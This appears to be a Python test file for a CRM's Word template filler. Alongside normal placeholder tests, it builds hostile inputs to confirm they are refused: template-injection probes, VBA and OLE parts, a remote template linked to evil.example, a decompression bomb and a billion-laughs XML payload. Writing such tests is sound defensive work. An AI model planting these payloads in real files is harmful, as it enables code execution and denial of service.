"""Word files: filled in wherever Word cut the placeholders, refused where something in them could run."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st

from crm_core.errors import InvalidInput
from hub.documents import docx
from hub.documents.worker import made, packed

VALUES: dict[str, Any] = {
    "number": 7,
    "now": datetime(2026, 3, 2, 9, tzinfo=UTC),
    "contact": {"name": "Анна"},
    "deal": {"amount": 150000.5, "paid": 0.0},
    "items": [
        {"position": 1, "name": "Окно", "quantity": 2.0, "total": 100000.0},
        {"position": 2, "name": "Монтаж & вывоз <старого>", "quantity": 1.5, "total": 50000.5},
    ],
    "payments": [],
}


def written(document: Any) -> bytes:
    found = io.BytesIO()
    document.save(found)
    return found.getvalue()


def filled(content: bytes, values: dict[str, Any] | None = None) -> Any:
    job = {"docx": content, "values": values or VALUES, "zone": "Europe/Moscow", "language": "ru"}
    return Document(io.BytesIO(made(job)))


def test_placeholders_in_pieces_in_tables_in_headers_and_footers() -> None:
    document = Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = "Договор {{ number }}"
    section.footer.paragraphs[0].text = "{{ contact.name }}"
    paragraph = document.add_paragraph("Счёт № ")
    for piece, bold in (
        ("{{ num", True),
        ("ber", False),
        (" }", True),
        ("} от {", False),
        ("{ now | date: “%d.%m.%Y” }}", False),
    ):
        paragraph.add_run(piece).bold = bold
    paragraph.add_run(" года").italic = True
    document.add_paragraph("{% if deal.paid > 0 %}Оплачено{% else %}Ждём {{ deal.amount | money }}{% endif %}")
    table = document.add_table(rows=2, cols=3)
    for cell, text in zip(table.rows[0].cells, ("№", "Что", "Сумма"), strict=True):
        cell.text = text
    for cell, text in zip(
        table.rows[1].cells, ("{{ item.position }}", "{{ item.name }}", "{{ item.total | money }}"), strict=True
    ):
        cell.text = text
    none = document.add_table(rows=1, cols=1)
    none.rows[0].cells[0].text = "{{ payment.amount }}"

    found = filled(written(document))

    assert found.sections[0].header.paragraphs[0].text == "Договор 7"
    assert found.sections[0].footer.paragraphs[0].text == "Анна"
    first = found.paragraphs[0]
    assert first.text == "Счёт № 7 от 02.03.2026 года"
    assert [run.italic for run in first.runs if run.text == " года"] == [True]
    assert next(run for run in first.runs if "7" in run.text).bold is True
    assert found.paragraphs[1].text == "Ждём 150\u00a0000,50\u00a0₽"
    assert [[cell.text for cell in row.cells] for row in found.tables[0].rows] == [
        ["№", "Что", "Сумма"],
        ["1", "Окно", "100\u00a0000\u00a0₽"],
        ["2", "Монтаж & вывоз <старого>", "50\u00a0000,50\u00a0₽"],
    ]
    assert len(found.tables[1].rows) == 0


def test_lines_of_a_value_are_lines_of_the_document_and_controls_are_left_out() -> None:
    document = Document()
    document.add_paragraph("[{{ contact.name }}]")
    found = filled(written(document), {"contact": {"name": "первая\nвторая\x0b\x01"}})
    assert found.paragraphs[0].text == "[первая\nвторая]"


def test_code_in_a_placeholder_does_nothing_and_a_fault_is_told_with_its_paragraph() -> None:
    document = Document()
    document.add_paragraph("[{{ contact.__class__.__mro__ }}{{ contact['__class__'] }}]")
    assert filled(written(document)).paragraphs[0].text == "[]"
    for text, word in (
        ("Цена {{ deal.amount", "not closed"),
        ("{{ a | system }}", "system"),
        ("{% include 'x' %}", "include"),
    ):
        document = Document()
        document.add_paragraph(text)
        with pytest.raises(InvalidInput, match=word) as told:
            filled(written(document))
        assert text[:10] in str(told.value)


def with_part(content: bytes, name: str, data: bytes, *, instead: bool = False) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.infolist():
            if not (instead and each.filename == name):
                new.writestr(each, old.read(each))
        new.writestr(name, data)
    return found.getvalue()


def test_what_could_run_or_would_be_fetched_is_refused() -> None:
    plain = written(Document())
    outside = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    for content, word in (
        (with_part(plain, "word/vbaProject.bin", b"x"), "run"),
        (with_part(plain, "word/embeddings/oleObject1.bin", b"x"), "run"),
        (with_part(plain, "word/_rels/settings.xml.rels", outside), "elsewhere"),
        (with_part(plain, "word/media/bomb.png", b"\0" * 50_000_000), "unpacks"),
        (b"PK\x03\x04 nothing", "no Word file"),
        (b"", "no Word file"),
    ):
        with pytest.raises(InvalidInput, match=word):
            docx.opened(content)


def test_entities_are_not_unfolded() -> None:
    plain = written(Document())
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        body = archive.read("word/document.xml")
    head, _, rest = body.partition(b"?>")
    laughs = b'<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "' + b"&a;" * 100 + b'">]>'
    rest = rest.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p>")
    content = with_part(plain, "word/document.xml", head + b"?>" + laughs + rest, instead=True)
    assert "haha" not in "".join(each.text for each in docx.opened(content).paragraphs)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.text(st.characters(codec="utf-8", exclude_characters="{}\r"), max_size=8), min_size=2, max_size=5),
    st.text(st.characters(codec="utf-8"), max_size=20),
    st.data(),
)
def test_wherever_word_cuts_a_paragraph_the_text_is_the_same(texts: list[str], name: str, data: st.DataObject) -> None:
    clean = [docx._UNPRINTABLE.sub("", each).replace("\n", " ").replace("\t", " ") for each in texts]
    whole = "{{ contact.name }}".join(clean)
    document = Document()
    paragraph = document.add_paragraph()
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=12)))
    for start, end in zip([0, *cuts], [*cuts, len(whole)], strict=True):
        paragraph.add_run(whole[start:end])
    value = docx._UNPRINTABLE.sub("", name)
    found = filled(written(document), {"contact": {"name": value}})
    shown = value.replace("\r\n", "\n").replace("\r", "\n")
    assert found.paragraphs[0].text == shown.join(clean)


def test_a_job_arrives_as_it_was_sent() -> None:
    assert b"$moment" in packed({"values": VALUES})
    with pytest.raises(TypeError):
        packed({"values": {"what": object()}})
